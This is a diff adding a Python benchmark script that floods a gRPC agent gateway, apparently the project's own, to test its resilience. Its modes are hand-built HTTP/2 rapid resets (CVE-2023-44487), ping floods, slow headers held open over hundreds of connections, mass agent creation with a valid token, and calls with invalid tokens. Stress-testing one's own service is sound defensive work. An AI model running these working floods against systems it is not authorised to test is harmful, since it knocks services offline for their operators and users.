@@ -1,0 +1,161 @@
+"""Somebody who means harm: `python -m tests.bench.flooding KIND HOST:PORT TOKEN`, until ended."""
+
+import asyncio
+import os
+import struct
+import sys
+from collections.abc import AsyncIterator, Awaitable, Callable
+from contextlib import asynccontextmanager, suppress
+
+import grpc
+from hatchery.gateway.v1.agent_service_pb2 import CreateAgentRequest, ListAgentsRequest
+from hatchery.gateway.v1.agent_service_pb2_grpc import AgentServiceStub
+
+Metadata = tuple[tuple[str, str], ...]
+Call = Callable[[AgentServiceStub, Metadata], Awaitable[None]]
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_HEADERS, _RST_STREAM, _SETTINGS, _PING = 1, 3, 4, 6
+_END_HEADERS, _CANCEL = 0x4, 8
+# So many frames a second, in bunches; so many connections; so many calls at once.
+_FRAMES, _BUNCH = 2000, 20
+_CONNECTIONS = 300
+_CALLS = 16
+_PATH = "/hatchery.gateway.v1.AgentService/ListAgents"
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def _literal(name: str, value: str) -> bytes:
+    """A header as HPACK writes it without a table (RFC 7541, 6.2.2); both shorter than 127."""
+    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))
+
+
+def _headers(target: str) -> bytes:
+    given = {
+        ":method": "POST",
+        ":scheme": "http",
+        ":path": _PATH,
+        ":authority": target,
+        "te": "trailers",
+        "content-type": "application/grpc",
+    }
+    return b"".join(_literal(name, value) for name, value in given.items())
+
+
+@asynccontextmanager
+async def _connection(target: str) -> AsyncIterator[asyncio.StreamWriter]:
+    """HTTP/2, begun; what the other side says is thrown away."""
+    host, _, port = target.partition(":")
+    reader, writer = await asyncio.open_connection(host, int(port))
+    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+
+    async def drain() -> None:
+        while await reader.read(65536):
+            pass
+        writer.transport.abort()
+
+    reading = asyncio.create_task(drain())
+    try:
+        yield writer
+    finally:
+        reading.cancel()
+        writer.transport.abort()
+
+
+async def _frames(target: str, bunch: Callable[[int], bytes]) -> None:
+    """Sends bunches at their rate, on a new connection where one was ended."""
+    while True:
+        with suppress(OSError):
+            async with _connection(target) as writer:
+                for number in range(1_000_000):
+                    writer.write(b"".join(bunch(number * _BUNCH + n) for n in range(_BUNCH)))
+                    await writer.drain()
+                    if writer.is_closing():
+                        break
+                    await asyncio.sleep(_BUNCH / _FRAMES)
+        await asyncio.sleep(0.01)
+
+
+async def resets(target: str, _: str) -> None:
+    """Begins calls and takes each back at once (CVE-2023-44487)."""
+    headers = _headers(target)
+
+    def bunch(number: int) -> bytes:
+        stream = number * 2 + 1
+        return _frame(_HEADERS, _END_HEADERS, stream, headers) + _frame(
+            _RST_STREAM, 0, stream, struct.pack(">I", _CANCEL)
+        )
+
+    await _frames(target, bunch)
+
+
+async def pings(target: str, _: str) -> None:
+    """Asks again and again whether the other side lives."""
+    await _frames(target, lambda number: _frame(_PING, 0, 0, struct.pack(">Q", number)))
+
+
+async def slow_headers(target: str, _: str) -> None:
+    """Opens connections, and never ends the first headers on them."""
+
+    async def hold() -> None:
+        while True:
+            with suppress(OSError):
+                async with _connection(target) as writer:
+                    writer.write(_frame(_HEADERS, 0, 1, _headers(target)[:20]))
+                    await writer.wait_closed()
+            await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(hold() for _ in range(_CONNECTIONS)))
+
+
+async def _calls(target: str, token: str, one: Call) -> None:
+    metadata = (("authorization", f"Bearer {token}"),)
+    async with grpc.aio.insecure_channel(target) as channel:
+        stub = AgentServiceStub(channel)
+
+        async def work() -> None:
+            while True:
+                try:
+                    await one(stub, metadata)
+                except grpc.aio.AioRpcError:
+                    await asyncio.sleep(0.01)  # what is refused at once costs them nothing
+
+        await asyncio.gather(*(work() for _ in range(_CALLS)))
+
+
+async def creations(target: str, token: str) -> None:
+    """Creates as many companions as there may be, with a good token."""
+
+    async def one(stub: AgentServiceStub, metadata: Metadata) -> None:
+        call = stub.CreateAgent(CreateAgentRequest(description="speak 20 40"), metadata=metadata)
+        await call.read()
+        call.cancel()
+
+    await _calls(target, token, one)
+
+
+async def strangers(target: str, _: str) -> None:
+    """Calls with tokens that are none."""
+
+    async def one(stub: AgentServiceStub, metadata: Metadata) -> None:
+        await stub.ListAgents(ListAgentsRequest(), metadata=metadata)
+
+    await _calls(target, "a.b.c", one)
+
+
+KINDS = {
+    "rapid resets": resets,
+    "pings": pings,
+    "slow headers": slow_headers,
+    "creations": creations,
+    "bad tokens": strangers,
+}
+
+
+if __name__ == "__main__":
+    # They would have a machine of their own: what they need of this one is no part of the harm.
+    os.nice(19)
+    asyncio.run(KINDS[sys.argv[1]](*sys.argv[2:]))
